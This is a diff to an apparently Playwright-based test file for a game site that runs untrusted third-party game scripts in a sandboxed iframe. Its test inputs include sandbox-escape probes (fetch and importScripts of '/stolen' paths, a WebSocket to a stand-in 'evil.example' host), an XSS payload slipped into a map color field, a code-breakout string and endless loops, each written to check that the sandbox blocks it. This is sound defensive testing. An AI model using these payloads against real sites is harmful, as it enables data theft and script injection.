@@ -2,7 +2,7 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { PackedBox } from '@haven/table/boxes'
 import { expect, type Page, test } from '@playwright/test'
-import { honestBox, ITS_POSITION, lay, otherBox } from './foreign-box.ts'
+import { honestBox, ITS_END, ITS_GAME, lay, otherBox } from './foreign-box.ts'
 import { answers, byPointer, load, playOn, put, theEnd } from './player.ts'
 
 /** Boxes of strangers run sealed off: what they try harms nothing, and they are named. */
@@ -15,14 +15,14 @@ async function visit(page: Page, box: PackedBox): Promise<void> {
 
 const named = (page: Page, name: string) => page.getByRole('heading', { name: `“${name}” was put out` })
 
-test('an honest box is played to the end against a bot, and its game goes on after the page was loaded anew', async ({
+test('an honest box is played to the end of a short game against a bot, over a page that was loaded anew', async ({
   page,
 }) => {
   test.slow()
   await visit(page, honestBox())
-  await load(page, ITS_POSITION, 'the heroes')
-  expect(await page.locator('iframe[sandbox="allow-scripts"]').count()).toBe(1)
-  expect(await playOn(page, 7, byPointer, 12)).toBe(12)
+  await load(page, ITS_END, 'the heroes')
+  await expect(page.locator('iframe[sandbox="allow-scripts"]')).toHaveCount(1)
+  expect(await playOn(page, 7, byPointer, 4)).toBe(4)
   await page.reload()
   await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
   await playOn(page, 8)
@@ -31,9 +31,15 @@ test('an honest box is played to the end against a bot, and its game goes on aft
 
 /** Before the box is made, and whenever its sin is looked at. */
 const first = (code: string) => (script: string) => `(kit) => { ${code}; return (${script})(kit) }`
-/** In a call of a rule: its dice are counted in every fight, and its clock in every view. */
+/** When a game is set up on its map. */
 const inCall = (code: string) => (script: string) =>
-  `(kit) => { const box = (${script})(kit); const stories = box.stories.map((story) => ({ ...story, clock: { get levels() { ${code}; return 1 } } })); return { ...box, stories } }`
+  `(kit) => {
+    const box = (${script})(kit)
+    return { ...box, maps: box.maps.map((map) => ({ ...map, get monsters() { ${code}; return map.monsters } })) }
+  }`
+/** Its map as another one. */
+const withMap = (fields: string) => (script: string) =>
+  `(kit) => { const box = (${script})(kit); return { ...box, maps: box.maps.map((map) => ({ ...map, ${fields} })) } }`
 
 const TRIES = `
 const out = []
@@ -45,7 +51,7 @@ attempt('navigator', () => typeof navigator === 'undefined' ? undefined : 'there
 attempt('BroadcastChannel', () => new BroadcastChannel('haven-tables'))
 attempt('fetch', () => fetch('/stolen'))
 attempt('xhr', () => new XMLHttpRequest())
-attempt('socket', () => new WebSocket('ws://${away}/c'))
+attempt('socket', () => new WebSocket('wss://evil.example/'))
 attempt('source', () => new EventSource('/stolen'))
 attempt('rtc', () => new RTCPeerConnection())
 attempt('importScripts', () => importScripts('/stolen.js'))
@@ -76,7 +82,7 @@ throw new Error('gained: ' + (out.join(', ') || 'nothing'))
 
 test('what it tries to reach is not there: storage, network, time, chance, other code', async ({ page }) => {
   await visit(page, otherBox('Burglar', first(TRIES)))
-  await put(page, ITS_POSITION, 'the heroes')
+  await put(page, ITS_GAME, 'the heroes')
   await expect(named(page, 'Burglar')).toBeVisible()
   await page.getByText('What the program says').click()
   await expect(page.locator('pre')).toHaveText(/gained: nothing/)
@@ -127,7 +133,7 @@ test('with the worker unlocked the frame alone keeps storage and network away', 
     const channel = new BroadcastChannel('haven-tables')
     channel.onmessage = ({ data }) => document.documentElement.setAttribute('data-heard', JSON.stringify(data))
   })
-  await put(page, ITS_POSITION, 'the heroes')
+  await put(page, ITS_GAME, 'the heroes')
   await expect(named(page, 'Burglar')).toHaveCount(0)
   await expect(page.getByRole('heading', { level: 1 })).toHaveText(/put out/, { timeout: 20_000 })
   await page.getByText('What the program says').click()
@@ -143,14 +149,18 @@ const BREAKS: readonly (readonly [name: string, why: RegExp, make: (script: stri
   ['Thrower', /broke a rule/, first('throw { toString() { for (;;); } }')],
   ['No Script', /broke a rule/, () => '(kit) => {'],
   ['Breakout', /broke a rule/, () => '0); } function Object() {} (() => { (0'],
-  ['Not a Box', /broke a rule/, () => '(kit) => ({ id: "wrath-box", version: "9" })'],
+  ['Not a Box', /broke a rule/, () => '(kit) => ({ id: "low-tide", version: "9" })'],
   ['Patched', /broke a rule/, first('"use strict"; Array.prototype.push = () => 0')],
   ['Endless', /not answered/, first('for (;;);')],
   ['Endless Rule', /not answered/, inCall('for (;;);')],
   ['Endless Promise', /not answered/, first('const again = () => Promise.resolve().then(again); again()')],
   ['Throwing Rule', /broke a rule/, inCall('throw new Error("no")')],
-  ['Nonsense', /makes no sense/, inCall('return 1e9')],
-  ['Words for Numbers', /makes no sense/, inCall('return "<img src=x onerror=alert(1)>"')],
+  [
+    'Markup',
+    /makes no sense/,
+    withMap("metro: map.metro.map((each) => ({ ...each, color: '<img src=x onerror=alert(1)>' }))"),
+  ],
+  ['Nonsense', /makes no sense/, withMap('metro: Array(200).fill(map.metro[0])')],
 ]
 
 for (const [name, why, make] of BREAKS) {
@@ -160,7 +170,7 @@ for (const [name, why, make] of BREAKS) {
     await expect(answers(page).first()).toBeVisible()
     const before = new URL(page.url()).pathname
     await visit(page, otherBox(name, make))
-    await put(page, ITS_POSITION, 'the heroes')
+    await put(page, ITS_GAME, 'the heroes')
     await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
     await expect(page.getByText(why)).toBeVisible()
     await expect(page.locator('iframe')).toHaveCount(0)
@@ -197,7 +207,7 @@ for (const [name, why, body] of [
       page,
       otherBox(name, (script) => script),
     )
-    await put(page, ITS_POSITION, 'the heroes')
+    await put(page, ITS_GAME, 'the heroes')
     await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
     await expect(page.getByText(why)).toBeVisible()
     await page.goto('/load')
